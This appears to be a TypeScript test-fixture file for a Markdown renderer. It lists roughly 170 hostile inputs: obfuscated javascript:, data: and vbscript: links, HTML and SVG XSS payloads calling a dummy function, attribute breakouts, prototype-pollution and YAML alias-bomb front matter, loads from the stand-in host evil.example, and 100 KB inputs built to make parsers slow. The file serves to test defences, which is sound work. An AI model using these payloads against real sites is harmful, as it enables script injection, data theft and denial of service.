// Markdown that tries to run script, load a foreign resource, leave its attribute, or take the renderer's time. In a browser each vector
// that runs would call `pwned()` or fetch from `evil.example`; neither may ever happen.

export type Vector = { name: string; text: string };

const CALL = 'pwned()';
const HOST = 'evil.example';

const schemes = [
  `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, `JAVASCRIPT:${CALL}`, ` javascript:${CALL}`, `\u0001javascript:${CALL}`, `\u00a0javascript:${CALL}`,
  `java\tscript:${CALL}`, `java&Tab;script:${CALL}`, `java&NewLine;script:${CALL}`, `java&#9;script:${CALL}`, `java&#10;script:${CALL}`, `java&#13;script:${CALL}`, `java&#x0A;script:${CALL}`,
  `javascript&colon;${CALL}`, `javascript&#58;${CALL}`, `javascript&#x3a;${CALL}`, `javascript&#0000058${CALL}`, `&#106;avascript:${CALL}`, `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${CALL}`,
  `&#1;javascript:${CALL}`, `&#0;javascript:${CALL}`, `java\\script:${CALL}`, `javascript\\:${CALL}`, `javascript%3A${CALL}`, `javascript%0A:${CALL}`, `%6aavascript:${CALL}`, `java%09script:${CALL}`,
  `javascript:/*--></title></style></textarea></script><svg/onload=${CALL}>`, `javascript://${HOST}/%0a${CALL}`, `javascript:'';${CALL}`, `javascript:"\\"><b onclick=${CALL}>"`,
  `jav\u00adascript:${CALL}`, `java\u200bscript:${CALL}`, `\u202ejavascript:${CALL}`, `ｊavascript:${CALL}`, `javaſcript:${CALL}`, `javascrİpt:${CALL}`, `view-source:javascript:${CALL}`, `feed:javascript:${CALL}`, `jar:javascript:${CALL}!/`,
  `vbscript:msgbox(1)`, `VbScRiPt:${CALL}`, `vb&#115;cript:${CALL}`, `livescript:${CALL}`, `mocha:${CALL}`,
  `data:text/html,<script>${CALL}</script>`, `data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+`, `DATA:text/html,${CALL}`, `data:image/svg+xml,<svg onload=${CALL}>`, `data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkKCkiLz4=`, `data:,${CALL}`, `data:text/javascript,${CALL}`, `&#100;ata:text/html,x`,
  `file:///etc/passwd`, `blob:https://${HOST}/1`, `filesystem:https://${HOST}/temporary/x`, `ftp://${HOST}/x`, `about:blank`, `chrome://settings`, `ms-word:ofe|u|https://${HOST}`, `intent://x#Intent;scheme=javascript;end`, `tel:+1`, `sms:1?body=x`, `ws://${HOST}`, `cid:x`, `mhtml:https://${HOST}/x`,
  `//${HOST}/x`, `/\\${HOST}/x`, `\\\\${HOST}\\x`, `/\t/${HOST}/x`, `/&#9;/${HOST}/x`, `///${HOST}/x`, `https:${HOST}`, `http:/${HOST}`, `https:\\\\${HOST}`, `https://bank.example@${HOST}/`, `https://bank.example%40${HOST}`, `https://`, `mailto:a@b.example?body=x&attach=/etc/passwd`, `mailto:javascript:${CALL}`, `mailto:"<script>${CALL}</script>"@b.example`,
];

const inLinks: Vector[] = schemes.map((href, n) => ({ name: `link ${n}: ${JSON.stringify(href).slice(0, 50)}`, text: `[press](<${href}>) [press](${href}) ![p](<${href}>)\n\n[ref][r${n}] [r${n}] ![ref][r${n}]\n\n[r${n}]: <${href}>` }));

const html = [
  `<script>${CALL}</script>`, `<SCRIPT SRC=//${HOST}/x.js></SCRIPT>`, `<img src=x onerror=${CALL}>`, `<img src="https://${HOST}/x.png">`, `<svg onload=${CALL}>`, `<svg><script>${CALL}</script></svg>`, `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${CALL}">x</maction></math>`, `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`, `<iframe src="javascript:${CALL}"></iframe>`, `<iframe srcdoc="<script>parent.${CALL}</script>">`, `<object data="javascript:${CALL}">`, `<embed src="//${HOST}/x.swf">`,
  `<link rel=stylesheet href=//${HOST}/x.css>`, `<style>@import url(//${HOST}/x.css)</style>`, `<base href="//${HOST}/">`, `<meta http-equiv=refresh content="0;url=//${HOST}">`, `<form action="//${HOST}"><button>x</button></form>`, `<input autofocus onfocus=${CALL}>`, `<details open ontoggle=${CALL}>`, `<video><source onerror=${CALL}></video>`, `<audio src=//${HOST}/x autoplay>`, `<body onload=${CALL}>`, `<a href="javascript:${CALL}">x</a>`, `<a href="x" onmouseover=${CALL}>x</a>`, `<p style="background:url(//${HOST}/x)">x</p>`,
  `<!--<img src="--><img src=x onerror=${CALL}>`, `<![CDATA[<script>${CALL}</script>]]>`, `<?xml version="1.0"?><x onload=${CALL}>`, `<!DOCTYPE x [<!ENTITY y SYSTEM "//${HOST}">]>`, `</p></section></main><script>${CALL}</script>`, `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`, `<template><script>${CALL}</script></template>`, `<textarea></textarea><script>${CALL}</script>`, `<scr\0ipt>${CALL}</scr\0ipt>`, `<scr<script>ipt>${CALL}</scr</script>ipt>`, `＜script＞${CALL}＜/script＞`, `&lt;script&gt;${CALL}&lt;/script&gt;`, `&#60;img src=x onerror=${CALL}&#62;`, `<img src=x\nonerror=${CALL}>`, `<a\u00a0href=javascript:${CALL}>`, `<portal src=//${HOST}>`, `<dialog open><script>${CALL}</script></dialog>`, `<custom-element onclick=${CALL}>x</custom-element>`,
].map((text, n) => ({ name: `html ${n}: ${JSON.stringify(text).slice(0, 50)}`, text: `${text}\n\ntext ${text} text\n\n- ${text}\n\n> ${text}` }));

const breakouts = [`"><script>${CALL}</script>`, `" onmouseover="${CALL}`, `' onmouseover='${CALL}`, `&quot; onfocus=&quot;${CALL}`, `&quot;><img src=x onerror=${CALL}>`, `</h3></section><script>${CALL}</script>`, `\u0000" x="`, `\`onload=${CALL}\``, `{{constructor.constructor('${CALL}')()}}`, `\${${CALL}}`];
const inDirectives: Vector[] = breakouts.flatMap((b, n) => [
  { name: `directive title ${n}`, text: `:::control[${b}]{#x${n}}\ntext\n:::\n\n:::hint[${b}]{style="info"}\ntext\n:::` },
  { name: `directive attribute ${n}`, text: `:::control[T]{#y${n} kind="${b}" alias="gitbook:${b}" entity='${b}' ${b}="x"}\ntext\n:::\n\n:::hint{style="${b}"}\ntext\n:::\n\n:::figure{src="a.png" alt="${b}"}\n${b}\n:::` },
  { name: `directive id ${n}`, text: `:::control[T]{#${b.replaceAll(' ', '')}}\ntext\n:::\n\n:param[${b}]{#z} :param[x]{#${b}}` },
]);

const pictures: Vector[] = [
  `![x](https://${HOST}/x.png)`, `![x](//${HOST}/x.png "t")`, `![](https://${HOST}/pixel.gif)`, `![" onerror="${CALL}](x.png)`, `![x](x.png" onerror="${CALL})`, `![x](<x.png" onerror="${CALL}>)`, `![x](x.png '" onerror="${CALL}')`, `![![x](javascript:${CALL})](https://${HOST}/x)`, `[![x](https://${HOST}/x.png)](javascript:${CALL})`, `:::figure{src="https://${HOST}/x.png" alt="x"}\nc\n:::`, `:::figure{src="javascript:${CALL}" alt="x"}\nc\n:::`, `:::figure{src="//${HOST}/x.png"}\n:::`, `:::figure{src="../../../etc/passwd"}\n:::`, `:::figure{src="data:image/svg+xml,<svg onload=${CALL}>"}\n:::`, `![x](\\\\${HOST}\\x.png)`, `![x](ht&#9;tps://${HOST}/x.png)`,
].map((text, n) => ({ name: `picture ${n}`, text }));

const tricks: Vector[] = [
  `<javascript:${CALL}>`, `<JAVASCRIPT:${CALL}>`, `<data:text/html,x>`, `<vbscript:x>`, `<https://${HOST}/"onmouseover="${CALL}>`, `https://${HOST}/"onmouseover="${CALL}`, `https://${HOST}/<script>${CALL}</script>`, `<https://a@${HOST}>`, `http://[::1]/`, `http://${HOST}\u202egpj.exe`,
  `[a](https://x.example "t\\" onclick=\\"${CALL}")`, `[a](https://x.example 't" onclick="${CALL}')`, `[a]: https://x.example "\\" onclick=\\"${CALL}"\n[a]`, `[a](https://x.example/" onclick="${CALL})`, `[<img src=x onerror=${CALL}>](https://x.example)`, `[a](https://x.example)<b onclick=${CALL}>`, `[__proto__]: javascript:${CALL}\n\n[__proto__] [constructor] [toString]`,
  `---\ntitle: "</title><script>${CALL}</script>"\n---\n\ntext`, `---\n__proto__: { polluted: "yes" }\ntitle: x\n---\n\ntext`, `---\ntitle: !!js/function "${CALL}"\n---\ntext`, `---\na: &a [x,x]\nb: &b [*a,*a]\nc: [*b,*b]\n---\ntext`, `text\n\n---\ntitle: late\n---\n`,
  `:::control[A]{#a}\n:::control[B]{#b}\n:::control[C]{#c}\n:::hint\n:::figure{src="x"}\n<script>${CALL}</script>\n:::\n:::\n:::\n:::\n:::`, `:::control{#a}\n- :::hint\n  <b onclick=${CALL}>\n  :::\n:::`, `> :::control[x]{#q}\n> text\n> :::`, `:::script{src="//${HOST}"}\n${CALL}\n:::`, `:::iframe{srcdoc="<script>${CALL}</script>"}\n:::`, `:::hint{__proto__="x" constructor="y" onclick="${CALL}" style="info"}\nx\n:::`, `:::control[x]{#main}\n:::\n\n# main\n\n# contents\n\n# c-x\n\n# __proto__\n\n# constructor`, `::::::hint\n:::\n::::::`,
  `\`\`\`" onclick="${CALL}\n<script>${CALL}</script>\n\`\`\``, `\`\`\`html\n</code></pre><script>${CALL}</script>\n\`\`\``, `\`</code><script>${CALL}</script>\``, `    </code><script>${CALL}</script>`, `| a | <script>${CALL}</script> |\n|:-:|--:|\n| "><img src=x onerror=${CALL}> | \`|\` |`, `| a |\n|:" onclick="${CALL}:|\n| x |`, `# <img src=x onerror=${CALL}>`, `# " onclick="${CALL}`, `## [x](javascript:${CALL})`, `- [x] <input onfocus=${CALL} autofocus>`, `- [ ] </label><script>${CALL}</script>`, `1. "><script>${CALL}</script>`, `99999999999999999999. x`,
  `pay \u202e)gpj.exe\u202c now`, `\u2066\u2066\u2066\u202e[moc.knab](https://${HOST})`, `\u202d\u202e\u2067\u2068abc`, `a\u0000b\u0008c\u001b[31md\u007f`, `\ufeff<script>${CALL}</script>`, `&#0;&#x1F;&#xD800;&#x110000;&#128;`, `&nosuch;&lt&gt&ampquot;`, `*<script>*${CALL}*</script>*`, `_"_ onclick=_${CALL}_`, `~~<s onclick=${CALL}>~~`, `\\<script>${CALL}\\</script>`, `<<script>script>${CALL}<</script>/script>`, `<a href='x'>\n\n[x](<javascript:${CALL}>)\n\n</a>`, `@import url(//${HOST})`, `expression(${CALL})`, `<!-- -- --><script>${CALL}</script><!-- -->`, `-->${CALL}<!--`, `]]><script>${CALL}</script>`, `<plaintext>`, `<xmp><script>${CALL}</script></xmp>`, `%3Cscript%3E${CALL}%3C/script%3E`, `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
].map((text, n) => ({ name: `trick ${n}: ${JSON.stringify(text).slice(0, 50)}`, text }));

/** Every short vector: at least 170, each with a name of its own. */
export const HOSTILE: readonly Vector[] = [...inLinks, ...html, ...inDirectives, ...pictures, ...tricks];

const many = (unit: string, size = 100_000) => unit.repeat(Math.ceil(size / unit.length)).slice(0, size);

/** Texts of about 100 KB that make careless parsers quadratic; each must render in under a second. Made on demand: they are large. */
export const PATHOLOGICAL: ReadonlyArray<{ name: string; make: () => string }> = [
  ...['[', ']', '![', '[[]', '[a](', '[a](<', '](', '[](', '*', '**a ', '*a_ ', '_*', '`', '``a', '`a``', '<', '<a ', '<!--', '&', '&#', '~', '~~a', '\\', '(', ':', ':::', ':param[', ':param[x', '> ', '>', '- ', '* a\n ', '|', '|a', '#', '\u202e', '\u0000', 'a', ' ', '\t', '\n', '\r', 'https://', 'https://a.', 'http://a(', 'a@b.', 'mailto:', '"', "'", '{#', '[^1]', '- [ ] ', '===\n', '---\n', '~~~\n', '```\n'].map((unit) => ({ name: `100 KB of ${JSON.stringify(unit)}`, make: () => many(unit) })),
  { name: 'nested directives, same colons', make: () => many(':::hint\n') },
  { name: 'nested directives, closed', make: () => `${many(':::hint\n', 50_000)}\n${many(':::\n', 50_000)}` },
  { name: 'nested directives, growing colons', make: () => Array.from({ length: 430 }, (_, n) => `${':'.repeat(430 - n + 2)}hint\n`).join('') + Array.from({ length: 430 }, (_, n) => `${':'.repeat(n + 3)}\n`).join('') },
  { name: 'closers that close nothing', make: () => `${many('::::a\n', 50_000)}\n${many(':::\n', 50_000)}` },
  { name: 'controls without end', make: () => many(':::control[x]{#a kind="control"}\n\n') },
  { name: 'one control with endless attributes', make: () => `:::control[x]{#a ${many('a="b" ')}}\n:::` },
  { name: 'one control with an unclosed attribute', make: () => `:::control[x]{#a ${many('a="b')}\n:::` },
  { name: 'one control with an endless title', make: () => `:::control[${many('[')}\n:::` },
  { name: 'attributes of blanks', make: () => `:::control[x]{${many(' ')}x}\n:::` },
  { name: 'nested lists', make: () => Array.from({ length: 440 }, (_, n) => `${' '.repeat(n)}- a\n`).join('') },
  { name: 'nested quotes', make: () => `${'> '.repeat(45_000)}a` },
  { name: 'quotes on every line', make: () => many('>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>> a\n') },
  { name: 'a wide table', make: () => `${many('|a', 30_000)}|\n${many('|-', 30_000)}|\n${many('|b', 30_000)}|` },
  { name: 'a long table of wide rows', make: () => `${'|a'.repeat(500)}|\n${'|-'.repeat(500)}|\n${'|\n'.repeat(40_000)}` },
  { name: 'reference definitions', make: () => Array.from({ length: 4000 }, (_, n) => `[r${n}]: http://x.example/${n}\n`).join('') },
  { name: 'one reference used often', make: () => `[r]: http://x.example/${many('y', 1500)}\n\n${many('[r] ', 60_000)}` },
  { name: 'unclosed reference label', make: () => `[${many('a\n')}` },
  { name: 'link titles never closed', make: () => many('[a](b "') },
  { name: 'emphasis in turn', make: () => many('*a **b _c __d ') },
  { name: 'emphasis openers then closers', make: () => `${many('a**b ', 50_000)}${many('c* ', 50_000)}` },
  { name: 'backticks of every length', make: () => Array.from({ length: 430 }, (_, n) => `e${'`'.repeat(n)}`).join('') },
  { name: 'nested brackets closed', make: () => `${many('[', 50_000)}a${many(']', 50_000)}` },
  { name: 'nested links', make: () => `${many('[', 30_000)}a${many('](b)', 60_000)}` },
  { name: 'nested pictures', make: () => `${many('![', 40_000)}a${many('](b)', 60_000)}` },
  { name: 'entities', make: () => many('&amp;&#x41;') },
  { name: 'front matter without end', make: () => `---\n${many('a: b\n')}` },
  { name: 'front matter fences', make: () => many('---\n\n') },
  { name: 'front matter aliases', make: () => `---\na0: &a0 [x, x]\n${Array.from({ length: 30 }, (_, n) => `a${n + 1}: &a${n + 1} [*a${n}, *a${n}]\n`).join('')}---\nx` },
  { name: 'deep flow lists in front matter', make: () => `---\na: ${many('[', 30_000)}\n---\nx` },
  { name: 'the same heading', make: () => many('# a\n') },
];
